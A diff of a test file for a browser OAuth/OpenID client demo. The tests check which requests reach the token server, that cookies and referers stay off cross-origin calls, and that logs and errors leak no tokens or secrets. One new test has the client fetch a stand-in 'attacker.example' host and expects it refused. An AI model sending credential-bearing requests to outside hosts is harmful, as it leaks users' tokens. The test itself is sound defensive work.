@@ -3,7 +3,16 @@
 import assert from "node:assert/strict";
 import { after, test } from "node:test";
 
-import { authorizationResponse, everythingStored, handleCallback, logIn, openDemo, openSuite, PROBE, signIn } from "./harness.mjs";
+import {
+  authorizationResponse,
+  everythingStored,
+  handleCallback,
+  logIn,
+  openDemo,
+  openSuite,
+  PROBE,
+  signIn,
+} from "./harness.mjs";
 
 const MEMORY_LIMIT = 256 * 1024;
 
@@ -36,10 +45,10 @@ test(
   suite.withPage(async ({ page }) => {
     await openDemo(page, suite);
     await signIn(page);
-    const callback = suite.exchanges.findIndex(({ server, path }) => server === "page" && path.startsWith("/callback?"));
-    assert.notEqual(callback, -1);
-    const after = suite.exchanges.slice(callback).filter(({ server }) => server === "as");
-    assert.deepEqual(after.map(({ method, path }) => `${method} ${path}`), ["POST /token"]);
+    const [callback] = suite.seen("page", "/callback?");
+    const since = suite.exchanges.slice(suite.exchanges.indexOf(callback));
+    const asked = since.filter(({ server }) => server === "as");
+    assert.deepEqual(asked.map(({ method, path }) => `${method} ${path}`), ["POST /token"]);
   }),
 );
 
@@ -52,15 +61,44 @@ test(
     await page.getByRole("button", { name: "Read my notes" }).click();
     await page.getByText("200 OK").waitFor();
 
-    const navigations = suite.seen("as").filter(({ headers }) => headers["sec-fetch-mode"] === "navigate");
-    assert.ok(navigations.some(({ headers }) => headers.cookie?.includes("tracking")), "the cookie is there to be sent");
-    const own = suite.exchanges.filter(({ server, headers }) => server !== "page" && headers["sec-fetch-mode"] === "cors");
+    const inMode = (mode) => suite.exchanges.filter(({ headers }) => headers["sec-fetch-mode"] === mode);
+    const sent = inMode("navigate").some(({ headers }) => headers.cookie?.includes("tracking"));
+    assert.ok(sent, "the cookie is there to be sent");
+    const own = inMode("cors").filter(({ server }) => server !== "page");
     const paths = new Set(own.map(({ path }) => path));
-    for (const path of ["/.well-known/openid-configuration", "/jwks", "/token", "/notes"]) assert.ok(paths.has(path), path);
+    for (const path of ["/.well-known/openid-configuration", "/jwks", "/token", "/notes"]) {
+      assert.ok(paths.has(path), path);
+    }
     for (const { path, headers } of own) {
       assert.equal(headers.cookie, undefined, path);
       assert.equal(headers.referer, undefined, path);
     }
+  }),
+);
+
+test(
+  "neither log entries nor errors hold a token, code, state or verifier",
+  suite.withPage(async ({ page }) => {
+    const callback = new URL(await authorizationResponse(page, suite));
+    const [record] = await page.evaluate(() => Object.values(sessionStorage));
+    const told = await page.evaluate(async () => {
+      const kept = [];
+      const client = await globalThis.openClient({ logger: (entry) => kept.push(entry) });
+      const keep = (error) => kept.push(error, error.message, error.stack, String(error));
+      await client.handleCallback();
+      await client.fetch("https://attacker.example/").catch(keep);
+      await client.signOutLocal();
+      await client.getAccessToken().catch(keep);
+      await client.handleCallback().catch(keep);
+      return JSON.stringify(kept);
+    });
+    assert.match(told, /"event":"handleCallback"/);
+    assert.match(told, /origin_not_allowed/);
+    const code = callback.searchParams.get("code");
+    const state = callback.searchParams.get("state");
+    const longStrings = record.match(/[\w-]{40,}/g);
+    assert.ok(longStrings.length >= 3, "state, nonce and verifier are in the record");
+    for (const secret of [...suite.tokens(), code, state, ...longStrings]) assert.ok(!told.includes(secret));
   }),
 );
 
